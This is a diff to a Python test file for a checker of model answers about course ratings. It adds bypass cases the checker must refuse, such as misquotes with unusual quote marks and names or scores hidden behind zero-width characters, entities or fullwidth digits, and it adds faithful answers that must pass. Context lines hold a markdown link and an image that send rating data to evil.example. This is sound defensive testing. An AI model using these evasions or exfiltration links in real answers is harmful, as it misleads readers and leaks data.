@@ -71,6 +71,24 @@ BYPASSES = [
     ("word cut short", "A student said “lectures were not help”.", "not in the"),
     ("short invented", "Students called the course “a total joke”.", "not in the"),
     ("two comments joined", "“graded on time. The homework took 20 hours”", "not in the"),
+    ("strikethrough", "A student wrote “The lectures were ~~not~~ helpful at all”.", "edit"),
+    (
+        "quote over a line break",
+        'A student wrote "the professor was\nbrilliant and kind".',
+        "not in",
+    ),
+    ("low-high quotes", "A student wrote „the professor was brilliant and kind“.", "not in the"),
+    ("corner brackets", "A student wrote 「the professor was brilliant and kind」.", "not in the"),
+    (
+        "entity quotes",
+        "A student wrote &ldquo;the professor was brilliant and kind&rdquo;.",
+        "not in",
+    ),
+    (
+        "blockquote",
+        "> The professor was brilliant and kind. [CS5800-01 Fall 2023, #3]",
+        "blockquote",
+    ),
     # numbers in words and percentages
     ("decimal in words", "Jane Doe scored four point nine.", "4.9"),
     ("out of five", "Jane Doe's rating was five out of five.", "five out of five"),
@@ -93,6 +111,14 @@ BYPASSES = [
     ("swapped, rounded", "Roe's mean of 4.7 beat everyone.", "not John Roe's"),
     ("swapped, in words", "John Roe: four point seven one.", "not John Roe's"),
     ("swapped N", "John Roe's rating rests on 31 responses.", "not John Roe's"),
+    ("swapped, next clause", "John Roe. 4.71.", "not John Roe's"),
+    ("swapped, capitals", "JOHN ROE: 4.71", "not John Roe's"),
+    ("swapped, entities", "J&#111;hn R&#111;e scored 4.71.", "not John Roe's"),
+    ("swapped, zero width", "J\u200bohn R\u200boe scored 4.71.", "not John Roe's"),
+    ("swapped, emphasis", "John R*o*e scored 4.71.", "not John Roe's"),
+    ("fullwidth digits", "Jane Doe scored ４.９.", "4.9"),
+    ("escaped decimal", "Jane Doe scored 4\\.9.", "4.9"),
+    ("code span", "Jane Doe scored `4.9`.", "4.9"),
     # links, images, HTML and URLs
     ("markdown link", "Jane Doe leads ([details](https://evil.example/x?d=4.71)).", "link"),
     ("image", "![chart](https://evil.example/p.png?who=Jane+Doe)", "image"),
@@ -115,7 +141,7 @@ def test_every_bypass_is_refused(case: str, text: str, reason: str) -> None:
 
 
 def test_the_corpus_is_large_enough() -> None:
-    assert len(BYPASSES) >= 30
+    assert len(BYPASSES) >= 30 and len(FAITHFUL) >= 25
 
 
 # Faithful answers in the words a model uses: none may be refused.
@@ -145,6 +171,15 @@ FAITHFUL = [
     "Students’ comments on the “workload” theme are negative; John Roe's students didn't agree.",
     "In answer to “What could the instructor improve?”, one student wrote about grading.",
     "The comments say the *homework* was “never graded on time” [#3].",
+    "> The lectures were not helpful at all [CS5800-01 Fall 2023, #3]",
+    "> “The homework took 20 hours a week.” [CS5800-01 Fall 2023, #5]",
+    'A student wrote "the homework was never graded\non time".',
+    "Jane Doe led.\n\nHer mean was 4.71 from 31 responses.",
+    "Jane Doe and John Roe were compared. The higher mean was 4.71.",
+    "JANE DOE: 4.71; John Roe: 4.20",
+    "Jane Doe's 4.71 rests on thirty-one responses, while John Roe's 4.20 rests on twelve.",
+    "Jane Doe's rating (4.71, N=31) tops John Roe's (4.20, N=12).",
+    "The highest was 4.71 for Jane Doe, then 4.20 for John Roe.",
 ]
 
 
